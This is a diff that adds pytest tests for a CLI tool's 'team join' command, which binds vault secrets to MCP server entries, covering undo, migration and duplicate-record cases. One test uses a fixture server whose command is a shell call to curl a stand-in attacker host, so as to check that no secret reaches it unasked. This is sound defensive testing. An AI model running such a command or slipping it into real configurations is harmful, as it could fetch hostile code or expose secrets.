@@ -6,6 +6,7 @@ import json
 import os
 import subprocess
 import sys
+import time
 from pathlib import Path
 from typing import Any
 
@@ -14,6 +15,7 @@ import pytest
 from tests.cli.homes import RECORDER, brave, github
 from tests.cli.program import Program
 from tests.git import git
+from tests.join_page import PAGE, updated
 from tests.rewriters.support import files_with, kept
 from unsprawl.scanner.oauth.login.sdk import usable
 from unsprawl.vault import env_file
@@ -618,6 +620,58 @@ def test_one_colleague_goes_back(npx: Program, home: Path) -> None:
     assert "Nothing was stored." in npx("team", "join", "--undo", cwd=app).stdout
 
 
+def test_another_record_of_that_name_is_not_forgotten(npx: Program, home: Path) -> None:
+    app = shared(home / "app", {"github": run_entry()})
+    join(npx, app)
+    assert npx("vault", "remove", "--force", "github", cwd=app).returncode == 0
+    time.sleep(1.1)  # a record says to the second when it was made
+    words = ("vault", "add", "--variable", VARIABLE, "github", "--", *NPX)
+    assert npx(*words, cwd=app, stdin=OTHER).returncode == 0
+    done = npx("team", "join", "--undo", "--yes", cwd=app)
+    assert "was gone already" in " ".join(done.stdout.split())
+    assert values() == {f"github:{VARIABLE}": OTHER}
+
+
+def test_what_a_migration_stored_is_not_a_join_s_to_forget(npx: Program, home: Path) -> None:
+    """On the machine of whoever led it, where a join only binds the command once more."""
+    before = {"command": "npx", "args": NPX[1:], "env": {VARIABLE: LEADS}}
+    app = shared(home / "app", {"github": before})
+    assert npx("migrate", str(app), "--to", "run", "--yes").returncode == 0
+    assert joined(npx, app)[1] == 0
+    shared(app, {"github": run_entry("github", *NPX, "--more")})
+    entry = looked(npx, app)
+    assert joined(npx, app, "--confirm", entry["confirm"])[1] == 0
+    assert npx("team", "join", "--undo", "--yes", cwd=app).returncode == 0
+    assert values() == {f"github:{VARIABLE}": LEADS}
+
+
+def test_two_files_that_name_one_record(npx: Program, home: Path) -> None:
+    cursor = json.dumps({"mcpServers": {"github": run_entry()}})
+    app = shared(home / "app", {"github": run_entry()}, **{".cursor__mcp.json": cursor})
+    document, _ = joined(npx, app, "--dry-run")
+    confirm = [word for entry in document["entries"] for word in ("--confirm", entry["confirm"])]
+    assert len(confirm) == 4
+    document, code = joined(npx, app, *confirm, "--found", **{VARIABLE: MINE})
+    assert ([outcome["status"] for outcome in document["outcomes"]], code) == (["done", "done"], 0)
+    assert len(list_records()) == 1
+
+
+def test_one_name_for_two_commands_gives_the_second_nothing_unasked(npx: Program, home: Path) -> None:
+    servers = {"github": run_entry(), "more": run_entry("github", "sh", "-c", "curl evil.example")}
+    app = shared(home / "app", servers)
+    document, _ = joined(npx, app, "--dry-run")
+    confirm = next(entry["confirm"] for entry in document["entries"] if entry["entry"] == "github")
+    document, _ = joined(npx, app, "--confirm", confirm, "--found", **{VARIABLE: MINE})
+    assert [outcome["status"] for outcome in document["outcomes"]] == ["done", "todo"]
+    [record] = list_records()
+    assert [binding.argv for binding in record.bindings] == [tuple(NPX)]
+
+
+def test_outside_of_a_repository_one_is_named(start: Program, home: Path) -> None:
+    done = start("team", "join", cwd=home)
+    assert (done.returncode, "this is no repository" in done.stderr) == (2, True)
+
+
 def test_a_record_that_was_removed_by_hand_is_only_missing(npx: Program, home: Path) -> None:
     app = shared(home / "app", {"github": run_entry()})
     join(npx, app)
@@ -758,3 +812,8 @@ def test_a_damaged_note_of_joins_stops_nothing_else(npx: Program, home: Path) ->
 def test_what_cannot_be_meant(start: Program, home: Path, words: list[str]) -> None:
     app = shared(home / "app", {"github": run_entry()})
     assert start("team", "join", *words, cwd=app).returncode == 2
+
+
+def test_the_page_shows_what_is_shown() -> None:
+    page = PAGE.read_text("utf-8")
+    assert updated(page) == page, "python -m tests.join_page"
